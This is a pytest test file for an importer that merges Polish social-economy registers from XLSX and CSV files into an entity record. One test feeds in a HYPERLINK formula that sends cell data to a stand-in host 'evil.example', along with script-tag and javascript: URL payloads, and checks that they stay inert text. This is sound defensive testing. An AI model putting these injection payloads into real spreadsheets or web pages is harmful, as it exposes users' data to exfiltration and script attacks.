"""Register import: files as offices write them, through read → mapping → preview → apply, and the command."""
from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from conftest import clone_settings
from geoes.cli import main
from geoes.config import REPO_DIR
from geoes.errors import Conflict
from geoes.register.importer import ImportContext, apply, format_preview, import_file, preview, propose, read_register
from geoes.register.mapping import MappingNeedsConfirmation, MissingColumn
from geoes.register.merge import stable_id
from geoes.register.record import COLUMNS, read_table

ENTITIES = REPO_DIR / "data" / "entities.csv"     # the committed record of the real entities
CARITAS_KRS = "0000198087"


@pytest.fixture(scope="module")
def context(fetched_settings) -> ImportContext:
    return ImportContext.from_settings(fetched_settings)


@pytest.fixture
def settings(fetched_settings, tmp_path):
    """A private data dir (region data + the committed record) for tests that import into it."""
    data = tmp_path / "data"
    data.mkdir()
    cloned = clone_settings(fetched_settings, data)
    shutil.copy(ENTITIES, data / "entities.csv")
    return cloned


def run_cli(settings, *args):
    result = CliRunner().invoke(main, ["--data-dir", str(settings.data_dir), *map(str, args)])
    return result


def existing() -> pd.DataFrame:
    return read_table(ENTITIES).drop(columns="row")


def do_preview(path, context, **kw):
    register = read_register(path, context)
    return preview(propose(register, context), existing(), context, **kw)


# --- the issue's own case: an office XLSX -----------------------------------------------------------

OFFICE_HEADER = ["Lp.", "NAZWA PODMIOTU", "Forma prawna / typ", "Adres: ulica i nr", "kod_pocztowy", "Miejscowość",
                 "Gmina", "Powiat", "Nr KRS", "NIP/REGON", "prowadzacy_lub_zalozyciele", "Strona WWW", "E-mail",
                 "Telefon", "Liczba zatrudnionych"]
OFFICE_ROWS = [
    [1, "Warsztat Terapii Zajęciowej „Testowy” w Belnie", "WTZ", None, None, "Belno", "gm. Bieliny", "powiat kielecki",
     None, None, "Stowarzyszenie Testowe", "www.wtz-test.example.pl", None, "(0-41) 311 22 33", 12],
    [2, "Spółdzielnia Socjalna „Testowa”", "spółdzielnia socjalna (osób fizycznych)", "ul. Przykładowa 1", 28300,
     "Jędrzejów", "Gmina miejsko-wiejska Jędrzejów", "jędrzejowski", None, None, None, None, "BIURO@EXAMPLE.ORG",
     "41 386 00 00", 5],
    [3, "Koło Gospodyń Wiejskich „Testowe” w Radlinie", "stowarzyszenie", None, None, "Radlin", "Górno",
     "kielecki", None, None, None, None, None, None, None],
    [4, "Centrum Integracji Społecznej w Teście", None, "ul. Testowa 5", "25-001", "Kielce", "m. Kielce",
     "Kielce", None, None, None, "https://cis.example.pl", None, None, "12,0"],
    [5, "Caritas Diecezji Kieleckiej", "kościelna osoba prawna", None, None, "Kielce", None, None, 198087,
     "657-038-94-52 / 290505494", None, None, None, "600 100 200", None],
]


def make_xlsx(path: Path, rows=OFFICE_ROWS, header=OFFICE_HEADER, title=True) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "Rejestr PES"
    if title:
        ws.append(["Rejestr podmiotów ekonomii społecznej — stan na 31.12.2025"])
        ws.append([])
    ws.append(header)
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_office_xlsx_imports_every_row(tmp_path, context):
    """Before: 0 of N rows ("kolumna types: pole wymagane jest puste") although the type stood in
    `Forma prawna / typ` and in every name. Now every row is in, the inferred types marked."""
    result = do_preview(make_xlsx(tmp_path / "rejestr.xlsx"), context)
    assert result.rejects.empty, result.rejects.to_dict("records")
    assert result.counts["added"] == 4 and result.counts["changed"] == 1
    out = result.merged.set_index("id")
    wtz = out.loc[stable_id("Warsztat Terapii Zajęciowej „Testowy” w Belnie", "Belno")]
    assert (wtz["types"], wtz["gmina_teryt"], wtz["powiat_teryt"]) == ("wtz", "2604012", "2604")
    assert (wtz["website"], wtz["phone"], wtz["employees"]) == ("https://www.wtz-test.example.pl", "+48 41 311 22 33", "12")
    assert wtz["operator"] == "Stowarzyszenie Testowe" and wtz["legal_form"] == ""          # WTZ is not a legal form
    ss = out.loc[stable_id("Spółdzielnia Socjalna „Testowa”", "Jędrzejów")]
    assert (ss["types"], ss["legal_form"]) == ("spoldzielnia_socjalna", "spółdzielnia socjalna (osób fizycznych)")
    assert (ss["street"], ss["postal_code"], ss["gmina_teryt"]) == ("ul. Przykładowa 1", "28-300", "2602023")
    assert ss["email"] == "biuro@example.org" and ss["location_precision"] == "none" and ss["lat"] == ""
    kgw = out.loc[stable_id("Koło Gospodyń Wiejskich „Testowe” w Radlinie", "Radlin")]
    assert (kgw["types"], kgw["legal_form"], kgw["gmina_teryt"]) == ("kgw", "stowarzyszenie", "2604062")
    cis = out.loc[stable_id("Centrum Integracji Społecznej w Teście", "Kielce")]
    assert (cis["types"], cis["gmina_teryt"], cis["powiat_teryt"], cis["employees"]) == ("cis", "2661011", "2661", "12")
    # Caritas is matched by its KRS (Excel dropped the leading zeros) and the NIP/REGON cell is split.
    caritas = out.loc["swk-044"]
    assert (caritas["krs"], caritas["nip"], caritas["regon"]) == (CARITAS_KRS, "6570389452", "290505494")
    assert caritas["phone"] == "+48 600 100 200" and caritas["types"] == "ngo"   # the register's type kept
    # Inferred types are marked for the operator: in the preview and as a warning on their row.
    added = result.added.set_index("name")["types_from"].to_dict()
    assert added["Koło Gospodyń Wiejskich „Testowe” w Radlinie"] == "name"         # name beats 'stowarzyszenie'
    assert added["Warsztat Terapii Zajęciowej „Testowy” w Belnie"] == "legal_form"
    assert added["Centrum Integracji Społecznej w Teście"] == "name"
    typed = result.warnings[result.warnings["column"] == "types"]
    assert set(typed["row"]) == {4, 5, 6, 7} and typed["reason"].str.contains("sprawdź").all()


def test_type_only_in_the_name_and_a_row_with_no_type(tmp_path, context):
    rows = [["Warsztat Terapii Zajęciowej w Nowym Teście", "Kielce"], ["Klub Integracji Społecznej „Test”", "Kielce"],
            ["Zakład Aktywności Zawodowej „Test”", "Kielce"], ["Fundacja Testowa", "Kielce"],
            ["Stowarzyszenie Testowe", "Kielce"], ["Spółdzielnia Socjalna „Nowy Test”", "Kielce"],
            ["Parafia Testowa", "Kielce"]]
    result = do_preview(make_xlsx(tmp_path / "nazwy.xlsx", rows, ["Nazwa", "Miejscowość"], title=False), context)
    assert result.added["types"].tolist() == ["wtz", "kis", "zaz", "ngo", "ngo", "spoldzielnia_socjalna"]
    assert (result.added["types_from"] == "name").all()
    assert result.rejects[["row", "column"]].values.tolist() == [[8, "types"]]
    assert "nie da się go ustalić" in result.rejects.loc[0, "reason"]
    assert result.rejects.loc[0, "Nazwa"] == "Parafia Testowa"      # the row as the file has it, to fix and re-import


# --- CSV as Excel writes it -------------------------------------------------------------------------

CP1250_CSV = (
    "Nazwa;Rodzaj;Miejscowość;Gmina;Szerokość geograficzna;Długość geograficzna;Liczba zatrudnionych;Źródła\r\n"
    "Koło Gospodyń Wiejskich „Żółte Łąki”;Koło Gospodyń Wiejskich;Brzeziny;Szydłów;50,6156;20,9628;\"12,0\";"
    "https://example.org/a https://example.org/b\r\n"
    "Spółdzielnia Socjalna „Źdźbło”;SS;Sadowie;Sadowie;50,85;;3;\r\n"
    "Klub Integracji Społecznej „Ślęża”;KIS, CIS;Kielce;;;;;\r\n"
)


@pytest.mark.parametrize("encoding", ["cp1250", "utf-8-sig", "utf-8"])
def test_semicolon_csv_with_decimal_commas(tmp_path, context, encoding):
    path = tmp_path / "eksport.csv"
    path.write_bytes(CP1250_CSV.encode(encoding))
    result = do_preview(path, context)
    out = result.merged.set_index("id")
    kgw = out.loc[stable_id("Koło Gospodyń Wiejskich „Żółte Łąki”", "Brzeziny")]
    assert (kgw["types"], kgw["gmina_teryt"], kgw["employees"]) == ("kgw", "2612083", "12")
    assert (kgw["lat"], kgw["lon"], kgw["location_precision"]) == ("50.615600", "20.962800", "locality")
    assert kgw["geocoder"] == "import:eksport.csv" and kgw["sources"] == "https://example.org/a | https://example.org/b"
    assert out.loc[stable_id("Klub Integracji Społecznej „Ślęża”", "Kielce"), "types"] == "kis;cis"
    # One coordinate only: the point is dropped with a warning, the cooperative is kept.
    ss = out.loc[stable_id("Spółdzielnia Socjalna „Źdźbło”", "Sadowie")]
    assert ss["lat"] == "" and ss["location_precision"] == "none"
    assert result.warnings[["row", "column"]].values.tolist() == [[3, "lat"]]
    assert result.counts["added"] == 3 and result.rejects.empty


def test_english_headers(tmp_path, context):
    path = tmp_path / "export.csv"
    path.write_text("Name,Type,City,Street,Postal code,County,Phone,Website\n"
                    "Social Coop Test,social cooperative,Sandomierz,ul. Testowa 2,27600,sandomierski,"
                    "+48 15 832 00 00,https://example.org\n", encoding="utf-8")
    result = do_preview(path, context)
    row = result.merged.set_index("id").loc[result.added.loc[0, "id"]]
    assert (row["types"], row["postal_code"], row["powiat_teryt"]) == ("spoldzielnia_socjalna", "27-600", "2609")


# --- bad values cost the value, not the entity ------------------------------------------------------

def test_bad_optional_values_are_dropped_with_warnings(tmp_path, context):
    header = ["Nazwa", "Typ", "Miejscowość", "Strona www", "E-mail", "Telefon", "Liczba zatrudnionych", "Kod pocztowy",
              "NIP", "REGON", "KRS", "Gmina"]
    rows = [["Fundacja Zły Komplet", "fundacja", "Kielce", "http://exa mple", "biuro(at)x.pl", "12-34", "-3", "2x-001",
             "1234567890", "123456789", "12345678901", "Nibylandia"],
            ["Fundacja Ułamek", "fundacja", "Kielce", None, None, None, "2,5", None, None, None, None, None]]
    result = do_preview(make_xlsx(tmp_path / "zle.xlsx", rows, header, title=False), context)
    assert result.rejects.empty and result.counts["added"] == 2 and result.counts["warned"] == 2
    w = result.warnings
    first = w[w["row"] == 2].set_index("column")
    assert set(first.index) >= {"website", "email", "phone", "employees", "postal_code", "nip", "regon", "krs",
                                "gmina_teryt"}
    assert first.loc["nip", "value"] == "1234567890" and "suma kontrolna" in first.loc["nip", "reason"]
    assert "Nibylandia" in first.loc["gmina_teryt", "reason"] + first.loc["gmina_teryt", "value"]
    assert (w["file"].str.endswith("zle.xlsx")).all() and (w["name"] == "Fundacja Zły Komplet").sum() >= 9
    kept = result.merged.set_index("name").loc["Fundacja Zły Komplet"]
    assert kept[["website", "email", "phone", "employees", "nip", "krs", "regon"]].tolist() == [""] * 7
    assert w[(w["row"] == 3)]["column"].tolist() == ["employees"]


def test_update_with_a_bad_value_keeps_the_old_one(tmp_path, context):
    path = tmp_path / "u.csv"
    path.write_text("id;Nazwa;Telefon;Strona www\nswk-044;Caritas Diecezji Kieleckiej;nie ma;javascript:alert(1)\n",
                    encoding="utf-8")
    base = existing()
    base.loc[base["id"] == "swk-044", ["phone", "website"]] = ["+48 41 344 00 00", "https://kielce.caritas.pl"]
    result = preview(propose(read_register(path, context), context), base, context)
    caritas = result.merged.set_index("id").loc["swk-044"]
    assert (caritas["phone"], caritas["website"]) == ("+48 41 344 00 00", "https://kielce.caritas.pl")
    dropped = result.warnings[result.warnings["column"].isin(["phone", "website"])]
    assert sorted(dropped["column"]) == ["phone", "website"] and result.counts["unchanged"] == 1


# --- the file's structure ---------------------------------------------------------------------------

def test_missing_name_column_stops_at_once(tmp_path, context, settings):
    rows = [[i, f"Fundacja {i}", "fundacja", "Kielce"] for i in range(1, 51)]
    path = make_xlsx(tmp_path / "bez_nazwy.xlsx", rows, ["Lp.", "Podmiot", "Typ", "Miejscowość"])
    with pytest.raises(MissingColumn):
        do_preview(path, context)
    before = (settings.data_dir / "entities.csv").read_bytes()
    result = run_cli(settings, "import", path)
    assert result.exit_code == 2 and result.output.count("Błąd:") == 1
    assert "„Podmiot”" in result.output and "--mapping" in result.output and "wiersz" not in result.output.split("Nagłówki")[0]
    assert (settings.data_dir / "entities.csv").read_bytes() == before


def test_conflicting_columns_need_confirmation_then_are_remembered(tmp_path, settings):
    header = ["Nazwa", "Nazwa skrócona", "Typ", "Miejscowość"]
    make_xlsx(tmp_path / "a.xlsx", [["Fundacja Pierwsza Testowa", "FPT", "fundacja", "Kielce"]], header, title=False)
    result = run_cli(settings, "import", tmp_path / "a.xlsx")
    assert result.exit_code == 2 and "pole name: kolumny „Nazwa”, „Nazwa skrócona”" in result.output
    assert "--accept-mapping" in result.output
    result = run_cli(settings, "import", tmp_path / "a.xlsx", "--accept-mapping", "--save-mapping")
    assert result.exit_code == 0, result.output
    assert len(list((settings.data_dir / "mappings").glob("*.json"))) == 1
    # The next file of the same layout (columns in another order) goes through by itself.
    make_xlsx(tmp_path / "b.xlsx", [["fundacja", "Kielce", "FDT", "Fundacja Druga Testowa"]],
              ["Typ", "MIEJSCOWOŚĆ", "Nazwa skrócona", "Nazwa"], title=False)
    result = run_cli(settings, "import", tmp_path / "b.xlsx")
    assert result.exit_code == 0, result.output
    names = set(read_table(settings.data_dir / "entities.csv")["name"])
    assert {"Fundacja Pierwsza Testowa", "Fundacja Druga Testowa"} <= names


def test_formulas_and_markup_stay_inert_text(tmp_path, context):
    header = ["Nazwa", "Typ", "Miejscowość", "Opis", "Liczba zatrudnionych"]
    rows = [['=HYPERLINK("http://evil.example/?"&A1,"klik")', "fundacja", "Kielce", "<script>alert(1)</script>", None],
            ["Fundacja <b>Pogrubiona</b>", "fundacja", "Kielce", "+1+1", None]]
    path = make_xlsx(tmp_path / "wzory.xlsx", rows, header, title=False)
    _as_text_and_formula(path)
    result = do_preview(path, context)
    out = result.merged.set_index("name")
    assert '=HYPERLINK("http://evil.example/?"&A1,"klik")' in out.index
    assert out.loc['=HYPERLINK("http://evil.example/?"&A1,"klik")', "description"] == "<script>alert(1)</script>"
    assert out.loc["Fundacja <b>Pogrubiona</b>", "employees"] == "7"       # a formula: its cached value
    from geoes.common.excel import csv_bytes

    text = csv_bytes(result.merged.tail(2)).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+1+1" in text


def _as_text_and_formula(path: Path) -> None:
    """Make A2 a text cell (as Excel stores '=… typed as text) and E3 a formula with a cached value 7."""
    src = zipfile.ZipFile(path)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode("utf-8")
                xml = re.sub(r'<c r="A2"[^>]*><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
                             lambda m: f'<c r="A2" t="inlineStr"><is><t>={m.group(1)}</t></is></c>', xml)
                xml = xml.replace('<c r="D3" t="inlineStr"><is><t>+1+1</t></is></c>',
                                  '<c r="D3" t="inlineStr"><is><t>+1+1</t></is></c><c r="E3"><f>3+4</f><v>7</v></c>')
                data = xml.encode("utf-8")
            dst.writestr(item, data)
    src.close()
    path.write_bytes(out.getvalue())


# --- matching, merging, duplicates ------------------------------------------------------------------

def existing_frame() -> pd.DataFrame:
    rows = [
        {"id": "e1", "name": "Stowarzyszenie A", "types": "ngo", "locality": "Kielce", "status": "active",
         "social_enterprise": "true", "lat": "50.871700", "lon": "20.631400", "location_precision": "locality",
         "geocoder": "gazetteer:PRNG 2021", "sources": "https://a.example.org", "phone": "+48 41 000 00 00",
         "gmina_teryt": "2661011"},
        {"id": "e2", "name": "Fundacja B", "types": "ngo", "locality": "Kielce", "street": "ul. Stara 1",
         "nip": "6570389452", "lat": "50.882900", "lon": "20.638500", "location_precision": "address",
         "geocoder": "gugik", "status": "unknown", "social_enterprise": "unknown"},
        {"id": "e3", "name": "Caritas", "types": "ngo", "locality": "Kielce", "krs": CARITAS_KRS,
         "status": "unknown", "social_enterprise": "unknown", "location_precision": "none", "description": "Stary opis"},
    ]
    return pd.DataFrame([{c: r.get(c, "") for c in COLUMNS} for r in rows])


def merge(tmp_path, context, rows: list[dict], **kw):
    frame = pd.DataFrame(rows).fillna("")
    path = tmp_path / "wiersze.csv"
    frame.to_csv(path, sep=";", index=False, encoding="cp1250")
    result = preview(propose(read_register(path, context), context), existing_frame(), context, **kw)
    return result, result.merged.set_index("id")


def test_merge_by_id_updates_only_what_is_stated(tmp_path, context):
    result, out = merge(tmp_path, context, [{"id": "e1", "name": "Stowarzyszenie A", "phone": "41 111 22 33",
                                             "status": "", "sources": "https://b.example.org"}])
    assert result.changed[["id", "columns"]].values.tolist() == [["e1", "phone, sources"]]
    assert result.changes[["column", "old", "new"]].values.tolist() == [
        ["phone", "+48 41 000 00 00", "+48 41 111 22 33"],
        ["sources", "https://a.example.org", "https://a.example.org | https://b.example.org"]]
    e1 = out.loc["e1"]
    assert e1["status"] == "active" and e1["social_enterprise"] == "true" and e1["types"] == "ngo"
    assert e1["location_precision"] == "locality" and e1["lat"] == "50.871700"   # untouched
    assert len(out) == 3


def test_merge_by_nip_and_a_moved_place_clears_the_old_point(tmp_path, context):
    result, out = merge(tmp_path, context, [{"name": "Fundacja B", "nip": "657-038-94-52", "locality": "Morawica",
                                             "street": "ul. Nowa 5", "types": "fundacja"}])
    assert len(result.added) == 0 and result.changed["id"].tolist() == ["e2"]
    assert out.loc["e2", "street"] == "ul. Nowa 5"
    assert out.loc["e2", ["lat", "lon", "location_precision", "geocoder"]].tolist() == ["", "", "none", ""]
    assert result.relocated == ["e2"]


def test_merge_by_krs_without_leading_zeros(tmp_path, context):
    result, out = merge(tmp_path, context, [{"name": "Caritas Diecezji Kieleckiej", "krs": "198087", "locality": "Kielce"}])
    assert len(result.added) == 0 and result.changed["id"].tolist() == ["e3"]
    assert out.loc["e3", "name"] == "Caritas Diecezji Kieleckiej" and len(out) == 3


def test_a_unit_with_its_operators_krs_is_not_its_operator(tmp_path, context):
    result, out = merge(tmp_path, context, [{"name": "Warsztat Terapii Zajęciowej Caritas", "krs": "198087",
                                             "locality": "Kielce", "types": "WTZ"}])
    assert len(result.added) == 1 and out.loc["e3", "name"] == "Caritas"
    krs = result.warnings[result.warnings["column"] == "krs"]
    assert len(krs) == 1 and "e3" in krs["reason"].iloc[0]           # warned: a person decides


def test_lower_precision_coordinates_do_not_replace_better_ones(tmp_path, context):
    result, out = merge(tmp_path, context, [{"id": "e2", "name": "Fundacja B", "lat": "50,87", "lon": "20,63",
                                             "location_precision": "gmina"}])
    assert out.loc["e2", ["lat", "location_precision", "geocoder"]].tolist() == ["50.882900", "address", "gugik"]
    assert len(result.unchanged) == 1


def test_better_coordinates_from_the_register_are_taken(tmp_path, context):
    result, out = merge(tmp_path, context, [{"id": "e1", "name": "Stowarzyszenie A", "lat": "50,8801",
                                             "lon": "20,6402", "location_precision": "adres"}])
    assert out.loc["e1", ["lat", "lon", "location_precision", "geocoder"]].tolist() == \
        ["50.880100", "20.640200", "address", "import:wiersze.csv"]
    assert {"lat", "lon", "location_precision", "geocoder"} <= set(result.changes["column"])


def test_duplicates_are_warned_within_the_file_and_against_the_register(tmp_path, context):
    result, out = merge(tmp_path, context, [
        {"name": "Nowa Fundacja", "types": "ngo", "locality": "Kielce"},
        {"name": "Nowa  fundacja", "types": "ngo", "locality": "KIELCE"},               # the same row again
        {"name": "Inna", "types": "ngo", "locality": "Kielce", "nip": "2222222222"},
        {"name": "Inna (ten sam NIP)", "types": "ngo", "locality": "Kielce", "nip": "2222222222"},
        {"name": "Stowarzyszenie „A”", "types": "ngo", "locality": "Kielce", "gmina_teryt": "2661011"},
    ])
    assert result.rejects["row"].tolist() == [3] and "ten sam podmiot co wiersz 2" in result.rejects.loc[0, "reason"]
    assert len(result.added) == 4 and len(out) == 7
    w = result.warnings.groupby("row")["reason"].agg(" | ".join)
    assert "NIP" in w[4] and "NIP" in w[5]      # both rows, each naming the other
    assert "e1" in w[6] and "podobna nazwa" in w[6]


def test_names_differing_in_numbers_are_not_duplicates(tmp_path, context):
    result, _ = merge(tmp_path, context, [{"name": "Klub Integracji Społecznej nr 1", "types": "kis", "locality": "Kielce"},
                                          {"name": "Klub Integracji Społecznej nr 2", "types": "kis", "locality": "Kielce"}])
    assert result.warnings.empty and len(result.added) == 2


# --- corrections ------------------------------------------------------------------------------------

def test_corrections_fill_add_and_send_contradictions_to_review(tmp_path, context):
    path = tmp_path / "poprawki.csv"
    path.write_text(
        "existing_id,nazwa_w_istniejacym_pliku,pole,wartosc,stan_wg_zrodla,source_url,uwagi\n"
        "e2,Fundacja B,ulica_nr,ul. Nowa 9,2012,https://z.example.org/1,sprawdzić aktualność\n"
        "e3,Caritas,kod_pocztowy,25-013,bez daty,https://z.example.org/2,\n"
        "e3,Caritas,fakty,Nowy fakt,2017-06-22,https://z.example.org/3,\n"
        "e1,Stowarzyszenie A,prowadzacy_lub_zalozyciele,Fundacja C (tak w źródle),2013,https://z.example.org/4,\n"
        "e9,Nie ma,fakty,x,2020,https://z.example.org/5,\n"
        "e3,Ktoś Inny,fakty,y,2020,https://z.example.org/6,\n", encoding="utf-8")
    register = read_register(path, context)
    proposal = propose(register, context)
    # 'uwagi' is plainly a remark: the note of its row, no question to confirm.
    assert {c.header: c.target for c in proposal.used}["uwagi"] == "note" and not proposal.needs_confirmation
    result = preview(proposal, existing_frame(), context)
    assert result.mode == "corrections"
    out = result.merged.set_index("id")
    assert out.loc["e2", "street"] == "ul. Stara 1"                  # contradicts the register: not applied
    assert out.loc["e3", "postal_code"] == "25-013"                  # empty field: filled
    assert out.loc["e3", "description"] == "Stary opis; Nowy fakt"
    assert out.loc["e3", "sources"] == "https://z.example.org/2 | https://z.example.org/3"
    assert out.loc["e3", "as_of"] == "2017-06-22" and out.loc["e1", "operator"] == ""
    review = result.review.set_index("row")
    assert review.loc[2, "reason"].startswith("sprzeczne z rejestrem") and review.loc[2, "note"] == "sprawdzić aktualność"
    assert "tożsamości" in review.loc[5, "reason"] and review.loc[5, "proposed"] == "Fundacja C (tak w źródle)"
    assert "nie odpowiada nazwie" in review.loc[7, "reason"]
    assert result.rejects["row"].tolist() == [6]
    assert result.counts == {"rows": 6, "added": 0, "changed": 1, "unchanged": 0, "warned": 0, "rejected": 1,
                             "review": 3}


def test_operator_numbers_fill_only_where_the_register_names_the_operator(tmp_path, context):
    # The layout of scripts/operator_identifiers.py (identyfikatory_prowadzacych.csv as corrections).
    frame = existing_frame()
    frame.loc[frame["id"] == "e2", "operator"] = "Caritas"
    path = tmp_path / "prowadzacy.csv"
    path.write_text(
        "existing_id,pole,wartosc,source_url\n"
        f"e2,krs_prowadzacego,{CARITAS_KRS},https://z.example.org/7\n"
        "e2,nip_prowadzacego,6570389452,https://z.example.org/7\n"
        f"e1,krs_prowadzacego,{CARITAS_KRS},https://z.example.org/8\n", encoding="utf-8")
    result = preview(propose(read_register(path, context), context), frame, context)
    out = result.merged.set_index("id")
    assert (out.loc["e2", "operator_krs"], out.loc["e2", "operator_nip"]) == (CARITAS_KRS, "6570389452")
    assert out.loc["e2", "sources"] == "https://z.example.org/7"
    assert out.loc["e1", "operator_krs"] == ""                       # e1 names no operator: to review
    (reason,) = result.review["reason"]
    assert "rejestr nie podaje prowadzącego" in reason


def test_corrections_wait_for_a_person_where_a_value_must_be_checked(tmp_path, context):
    """Contacts from a third party (the layout of pes_swietokrzyskie_kontakty.csv): a website is filled, a
    phone never without a check; a remark asking for a check, or speaking of the operator beside the unit's
    own contact, sends the value to review; the operator's contact fills the operator's field, only where the
    register names an operator; a street that gains its number is filled; every applied remark is kept in
    the internal notes."""
    frame = existing_frame()
    frame.loc[frame["id"] == "e2", "operator"] = "Caritas"
    frame.loc[frame["id"] == "e1", "street"] = "ul. Nowa"
    path = tmp_path / "kontakty.csv"
    path.write_text(
        "existing_id,pole,wartosc,stan_wg_zrodla,source_url,uwagi\n"
        "e2,strona_www,www.b.example.org,bez daty,https://z.example.org/1,własna strona\n"
        "e3,telefon,41 344 55 66,bez daty,https://z.example.org/2,\n"
        "e3,strona_www,www.c.example.org,bez daty,https://z.example.org/3,sprawdzić, który adres działa\n"
        "e1,strona_www,www.a.example.org,bez daty,https://z.example.org/4,podstrona w serwisie prowadzącego\n"
        "e2,strona www prowadzącego,www.caritas.example.org,bez daty,https://z.example.org/5,strona prowadzącego\n"
        "e1,e-mail prowadzącego,biuro@a.example.org,bez daty,https://z.example.org/6,\n"
        "e2,ulica_nr,ul. Stara 1A,2025,https://z.example.org/7,\n"
        "e1,ulica_nr,ul. Nowa 9,2025,https://z.example.org/8,\n", encoding="utf-8")
    result = preview(propose(read_register(path, context), context), frame, context)
    out = result.merged.set_index("id")
    assert out.loc["e2", "website"] == "https://www.b.example.org"
    assert out.loc["e2", "operator_website"] == "https://www.caritas.example.org" and out.loc["e2", "website"] != \
        out.loc["e2", "operator_website"]
    assert "https://z.example.org/1" in out.loc["e2", "sources"] and "https://z.example.org/5" in out.loc["e2", "sources"]
    assert out.loc["e1", "street"] == "ul. Nowa 9"                   # the street gains its number: a fact added
    assert out.loc["e2", "street"] == "ul. Stara 1"                  # another number: a contradiction, reviewed
    assert "Strona internetowa: własna strona" in out.loc["e2", "internal_notes"]
    assert out.loc["e3", "phone"] == "" and out.loc["e3", "website"] == ""
    assert out.loc["e1", "website"] == "" and out.loc["e1", "operator_email"] == ""
    reasons = {(r.id, r.column): r.reason for r in result.review.itertuples()}
    assert "telefon" in reasons["e3", "phone"] and "po sprawdzeniu" in reasons["e3", "phone"]
    assert "źródło prosi o sprawdzenie" in reasons["e3", "website"]
    assert "podmiocie prowadzącym" in reasons["e1", "website"]
    assert "rejestr nie podaje prowadzącego" in reasons["e1", "operator_email"]
    assert reasons["e2", "street"].startswith("sprzeczne z rejestrem")


def test_geocode_is_suggested_only_where_a_place_came_or_changed(tmp_path, context):
    frame = existing_frame()
    frame.loc[frame["id"] == "e3", "operator"] = "Caritas"          # e3 has no point (precision none)
    path = tmp_path / "poprawki.csv"
    path.write_text(f"existing_id,pole,wartosc\ne3,krs_prowadzacego,{CARITAS_KRS}\n", encoding="utf-8")
    result = preview(propose(read_register(path, context), context), frame, context)
    assert result.counts["changed"] == 1
    assert "Bez współrzędnych" not in format_preview(result, tmp_path / "out.csv")
    path.write_text("existing_id,pole,wartosc\ne3,kod_pocztowy,25-013\n", encoding="utf-8")
    result = preview(propose(read_register(path, context), context), frame, context)
    assert "Bez współrzędnych po imporcie: 1\u00a0podmiot" in format_preview(result, tmp_path / "out.csv")


# --- preview → apply, and the command ---------------------------------------------------------------

def test_apply_writes_the_preview_and_refuses_a_stale_one(tmp_path, context):
    record = tmp_path / "entities.csv"
    shutil.copy(ENTITIES, record)
    path = make_xlsx(tmp_path / "r.xlsx")
    result = preview(propose(read_register(path, context), context), read_table(record).drop(columns="row"), context)
    stale = preview(propose(read_register(path, context), context), read_table(record).drop(columns="row"), context)
    apply(result, record)
    assert len(read_table(record)) == len(existing()) + 4
    with pytest.raises(Conflict, match="zmienił się od podglądu"):
        apply(stale, record)
    again = preview(propose(read_register(path, context), context), read_table(record).drop(columns="row"), context)
    assert again.counts["added"] == 0 and again.changes.empty and again.counts["unchanged"] == 5


def test_rejects_file_fixed_in_excel_imports_again(tmp_path, settings):
    rows = [["Parafia Testowa", "Kielce"], ["Fundacja Dobra", "Kielce"]]
    path = make_xlsx(tmp_path / "rejestr.xlsx", rows, ["Nazwa", "Miejscowość"], title=False)
    result = run_cli(settings, "import", path)
    assert result.exit_code == 1, result.output
    rejects = tmp_path / "rejestr.odrzucone.csv"
    fixed = pd.read_csv(rejects, dtype=str, encoding="utf-8-sig")
    assert fixed.loc[0, "Nazwa"] == "Parafia Testowa" and fixed.loc[0, "row"] == "2"
    fixed["Nazwa"] = "Fundacja Parafii Testowej"                   # the operator fixes the name in Excel
    fixed.to_csv(tmp_path / "poprawione.csv", sep=";", index=False, encoding="cp1250")
    result = run_cli(settings, "import", tmp_path / "poprawione.csv")
    assert result.exit_code == 0, result.output
    assert "Fundacja Parafii Testowej" in set(read_table(settings.data_dir / "entities.csv")["name"])


def test_cli_import_exit_codes_and_reports(tmp_path, settings):
    clean = make_xlsx(tmp_path / "czysty.xlsx")
    result = run_cli(settings, "import", clean)
    assert result.exit_code == 0, result.output
    assert "dodano 4, zmieniono 1" in result.output and "typ ustalony z nazwy" in result.output
    assert (tmp_path / "czysty.ostrzezenia.csv").exists()
    result = run_cli(settings, "import", tmp_path / "brak.xlsx")
    assert result.exit_code == 2 and result.output.strip().startswith("Błąd:")
    assert len(result.output.strip().splitlines()) == 1


def test_cli_import_dry_run_writes_nothing(tmp_path, settings):
    record = settings.data_dir / "entities.csv"
    before = record.read_bytes()
    result = run_cli(settings, "import", make_xlsx(tmp_path / "rejestr.xlsx"), "--dry-run")
    assert result.exit_code == 0 and "dry-run" in result.output
    assert record.read_bytes() == before and not list(tmp_path.glob("rejestr.*.csv"))


def test_cli_import_then_geocode_offline(tmp_path, settings):
    assert run_cli(settings, "import", make_xlsx(tmp_path / "r.xlsx", OFFICE_ROWS[:2])).exit_code == 0
    result = run_cli(settings, "geocode", "--offline", "--quiet", "--no-cache")
    assert result.exit_code == 0, result.output
    out = read_table(settings.data_dir / "entities.csv").set_index("id")
    ss = out.loc[stable_id("Spółdzielnia Socjalna „Testowa”", "Jędrzejów")]
    assert (ss["location_precision"], ss["geocoder"]) == ("locality", "gazetteer:PRNG 2021")  # within gm. 2602023
    wtz = out.loc[stable_id("Warsztat Terapii Zajęciowej „Testowy” w Belnie", "Belno")]
    assert (wtz["location_precision"], wtz["lat"]) == ("locality", "50.817500")   # Belno in gm. Bieliny


def test_the_supplement_of_real_entities_through_the_importer(tmp_path, settings, mirror_dir):
    """The 33 hand-compiled real entities and the 8 corrections, with the mappings kept in scripts/."""
    mappings = REPO_DIR / "scripts" / "mappings"
    entities = mirror_dir / "entities"
    record = settings.data_dir / "entities.csv"
    seed = read_table(record).drop(columns="row")
    seed = seed[~seed["id"].str.startswith("swk-n")]                  # the record as it was before the supplement
    seed.to_csv(record, index=False)
    before = seed.set_index("id")
    first = run_cli(settings, "import", entities / "pes_swietokrzyskie_uzupelnienie.csv", "--reports", tmp_path)
    assert first.exit_code == 2 and "niepewne" in first.output          # its headers need a confirmed mapping
